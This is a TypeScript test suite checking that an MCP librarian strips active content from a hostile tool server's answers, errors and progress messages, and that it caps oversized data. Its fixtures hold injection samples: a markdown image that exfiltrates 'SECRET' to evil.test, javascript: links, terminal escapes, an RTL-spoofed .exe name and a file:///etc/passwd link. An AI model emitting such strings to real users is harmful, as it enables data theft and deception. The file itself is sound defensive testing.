import type { Response } from "@constellation/core";
import { testContext } from "@constellation/testing";
import { InMemoryTransport, McpServer } from "@modelcontextprotocol/server";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { type Tool, text } from "../../test/tool-server.js";
import { createMcpLibrarian } from "./mcp-librarian.js";

/** What a remote system may try: to act on a terminal, to hide, to load, to be followed, to be run. */
const hostile =
  "\u001b[2J\u001b]0;title\u0007 ![x](http://evil.test/?q=SECRET) [click](javascript:alert) \u202egnp.exe\u202c zero\u200bwidth line\u2028separator <img src=x> ![y][z]\n\n[z]: http://evil.test/";

/** What of it must not be left anywhere. */
const active =
  /\p{Cc}(?<!\n)|[\u200b\u202a-\u202e\u2028\u2029]|!\[[^\]]*\](?=[(:[])|(?<!\\)\](?=[(:])|javascript:|(?<!\\)<img/u;

function textsIn(value: unknown): readonly string[] {
  if (typeof value === "string") return [value];
  if (typeof value !== "object" || value === null) return [];
  return Object.entries(value).flatMap(([key, held]) => [key, ...textsIn(held)]);
}

function expectHarmless(value: unknown): void {
  const texts = textsIn(value);
  expect(texts.join("")).toContain("separator"); // the hostile text came through, made harmless
  for (const each of texts) expect(each).not.toMatch(active);
}

/** Calls the tool of a server whose every name is hostile too. */
async function call(tool: Tool, context = testContext(), name = "search"): Promise<Response> {
  const definition = createMcpLibrarian({
    id: "tickets",
    description: "searches tickets",
    server: async () => {
      const [near, far] = InMemoryTransport.createLinkedPair();
      const server = new McpServer({ name: hostile, version: "1" });
      server.registerTool(
        "search",
        { description: hostile, inputSchema: z.looseObject({ query: z.string() }) },
        ({ query }, context) => tool(query, context),
      );
      await server.connect(far);
      return near;
    },
    tool: name,
  });
  try {
    return await definition.librarian("billing", context);
  } finally {
    await definition.close?.(new AbortController().signal);
  }
}

describe("createMcpLibrarian, asking a hostile server", () => {
  it("takes everything active out of its answer, names, sources and data", async () => {
    const response = await call(() => ({
      content: [
        { type: "text", text: hostile },
        { type: "resource_link", uri: "javascript:alert(1)", name: hostile, title: hostile },
        { type: "resource_link", uri: "file:///etc/passwd", name: "passwords" },
      ],
      structuredContent: {
        confidence: 1,
        sources: [{ name: hostile, url: "javascript:alert(1)", type: hostile }],
        nested: [{ [hostile]: hostile }],
      },
    }));

    expectHarmless(response);
    expect(response.sources?.map(({ url }) => url)).toEqual(
      Array.from({ length: 4 }, () => undefined),
    );
  });

  it("takes everything active out of what it says of an error", async () => {
    const error = { code: "NOT_FOUND", message: hostile, suggestion: hostile, reason: hostile };

    expectHarmless(await call(() => ({ ...text(hostile), isError: true })));
    expectHarmless(await call(() => ({ ...text(), isError: true, structuredContent: { error } })));
  });

  it("takes everything active out of its progress, and reports no more than 1,000 lines of it", async () => {
    const context = testContext();

    await call(async (_query, { mcpReq }) => {
      const progressToken = mcpReq._meta?.progressToken ?? "";
      for (let progress = 1; progress <= 1_100; progress++) {
        const params = { progressToken, progress, message: `${hostile} ${progress}` };
        await mcpReq.notify({ method: "notifications/progress", params });
      }
      return text("found");
    }, context);

    expect(context.reported).toHaveLength(1_000);
    expectHarmless(context.reported);
  });

  it("cuts data that is too deep or too much, and says that the answer is partial", async () => {
    const deep = JSON.parse(`${'{"a":'.repeat(500)}1${"}".repeat(500)}`) as object;
    const many = Array.from({ length: 20_000 }, () => 1);

    const response = await call(() => ({ ...text("found"), structuredContent: { deep, many } }));

    expect(response).toMatchObject({ answer: "found", partial: true });
    expect(JSON.stringify(response).length).toBeLessThan(50_000);
  });

  it("ends with TIMEOUT when the reason of the abort cannot be looked at", async () => {
    const { proxy, revoke } = Proxy.revocable({}, {});
    revoke();
    const caller = new AbortController();
    const response = call(
      () => new Promise<never>(() => undefined),
      testContext({ signal: caller.signal }),
    );

    caller.abort(proxy);

    expect((await response).error).toMatchObject({
      code: "TIMEOUT",
      details: { reason: "cancelled" },
    });
  });
});
